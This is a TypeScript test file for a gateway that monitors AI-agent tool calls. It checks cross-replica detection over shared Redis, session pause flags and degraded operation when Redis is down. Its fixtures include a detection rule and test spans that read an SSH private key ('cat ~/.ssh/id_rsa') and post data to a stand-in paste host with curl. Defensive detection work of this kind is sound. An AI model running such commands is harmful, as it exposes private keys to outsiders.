import t from 'tap';
import { postJson, startTestGateway } from '../../helpers/enforce-gateway.js';
import { RedisServer } from '../../helpers/redis-server.js';

// Two gateways sharing one real Redis, as two replicas behind a load balancer.

const RULES = `
rule t.secret_then_egress {
  title: "secret then egress" severity: critical score: 95 actions: [alert]
  message: "{secret.command} then {egress.command}"
  sequence by session.id within 10m {
    step secret: command contains "id_rsa"
    step egress: command contains "curl"
  }
}
rule t.burst { title: "burst" severity: medium score: 40 actions: [alert] when: command contains "echo" threshold: count >= 3 within 10m by session.id }
`;

let seq = 0;
function spans(session: string, commands: readonly string[]) {
  const now = BigInt(Date.now()) * 1_000_000n;
  return {
    resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 't' }, spans: commands.map((command) => {
      const id = (++seq).toString(16).padStart(16, '0');
      return { traceId: id.repeat(2), spanId: id, name: 'tool', kind: 1, startTimeUnixNano: String(now), endTimeUnixNano: String(now), attributes: [
        { key: 'process.command_line', value: { stringValue: command } },
        { key: 'gen_ai.conversation.id', value: { stringValue: session } },
      ] };
    }) }] }],
  };
}

const detections = async (admin: string, rule: string): Promise<{ total: number; detections: { degraded?: boolean }[] }> => (await fetch(`${admin}/admin/v1/detections?rule=${rule}`)).json() as never;

async function pair(t: Tap, redis: RedisServer) {
  const state = { backend: 'redis', redis: { url: redis.url, command_timeout: '300ms' } };
  return [await startTestGateway(t, { rules: RULES, state }), await startTestGateway(t, { rules: RULES, state })];
}
type Tap = Parameters<Parameters<typeof t.test>[0]>[0];

t.test('a sequence whose steps reach two instances is detected exactly once; a threshold counts across them', async (t) => {
  const redis = await RedisServer.start(t);
  const [a, b] = await pair(t, redis);
  t.equal((await postJson(`${a.ingest}/v1/traces`, spans('s-1', ['cat ~/.ssh/id_rsa']))).status, 200);
  t.equal((await postJson(`${b.ingest}/v1/traces`, spans('s-1', ['curl -d @- https://paste.example']))).status, 200);
  const onA = await detections(a.admin, 't.secret_then_egress');
  const onB = await detections(b.admin, 't.secret_then_egress');
  t.equal(onA.total + onB.total, 1, 'exactly one detection over both instances');
  t.equal(onB.total, 1, 'raised where the completing step arrived');
  await postJson(`${a.ingest}/v1/traces`, spans('s-2', ['echo 1']));
  await postJson(`${b.ingest}/v1/traces`, spans('s-2', ['echo 2']));
  await postJson(`${a.ingest}/v1/traces`, spans('s-2', ['echo 3']));
  t.equal((await detections(a.admin, 't.burst')).total + (await detections(b.admin, 't.burst')).total, 1, 'three events over two instances make one threshold');
});

t.test('a pause set through instance A denies at /v1/check on instance B', async (t) => {
  const redis = await RedisServer.start(t);
  const [a, b] = await pair(t, redis);
  const check = { attributes: { 'process.command_line': 'ls -la', 'gen_ai.conversation.id': 's-9' } };
  t.equal((await postJson(`${b.ingest}/v1/check`, check)).body.decision, 'allow');
  const set = await fetch(`${a.admin}/admin/v1/flags/session/s-9`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ kind: 'pause', reason: 'review' }) });
  t.equal(set.status, 200);
  const denied = await postJson(`${b.ingest}/v1/check`, check);
  t.equal(denied.body.decision, 'deny');
  t.match(denied.body.reasons, [{ type: 'flag', scope: 'session', id: 's-9', reason: 'review' }]);
  await fetch(`${b.admin}/admin/v1/flags/session/s-9`, { method: 'DELETE' });
  t.equal((await postJson(`${a.ingest}/v1/check`, check)).body.decision, 'allow', 'resumed through B, A allows');
});

t.test('Redis killed mid-stream: every span is accepted, windows degrade visibly, and resume when it returns', async (t) => {
  const redis = await RedisServer.start(t);
  const [a] = await pair(t, redis);
  t.equal((await postJson(`${a.ingest}/v1/traces`, spans('s-3', ['echo 1']))).status, 200);
  await redis.stop();
  for (let i = 0; i < 3; i++) {
    const answer = await postJson(`${a.ingest}/v1/traces`, spans('s-4', [`echo ${i}`]));
    t.equal(answer.status, 200, `span ${i} accepted while Redis is down`);
    t.same(answer.body, {}, 'full success: nothing rejected');
  }
  const degraded = await detections(a.admin, 't.burst');
  t.equal(degraded.total, 1, 'the window ran on local state');
  t.equal(degraded.detections[0].degraded, true, 'and its detection says so');
  const ready = await (await fetch(`${a.admin}/readyz`)).json() as { status: string; degraded: string[] };
  t.equal(ready.status, 'degraded');
  t.match(ready.degraded[0], /redis unreachable/);
  t.match(await (await fetch(`${a.admin}/metrics`)).text(), /vigil_rule_state_degraded 1/);
  const metrics = await (await fetch(`${a.admin}/metrics`)).text();
  t.match(metrics, /vigil_receiver_accepted_items_total\{signal="span",transport="http\/json"\} 4/, 'every span counted as accepted');

  await redis.start();
  for (let i = 0; i < 100 && (await (await fetch(`${a.admin}/readyz`)).json() as { status: string }).status !== 'ready'; i++) {
    await postJson(`${a.ingest}/v1/traces`, spans('s-probe', ['cat ~/.ssh/id_rsa'])); // a sequence step: the batch goes to the state store
    await new Promise((r) => setTimeout(r, 100));
  }
  for (let i = 0; i < 3; i++) await postJson(`${a.ingest}/v1/traces`, spans('s-5', [`echo ${i}`]));
  const after = await detections(a.admin, 't.burst');
  t.equal(after.total, 2, 'detections resume on shared state');
  t.notOk(after.detections[0].degraded, 'no longer degraded');
  t.match(await (await fetch(`${a.admin}/metrics`)).text(), /vigil_rule_state_degraded 0/);
});
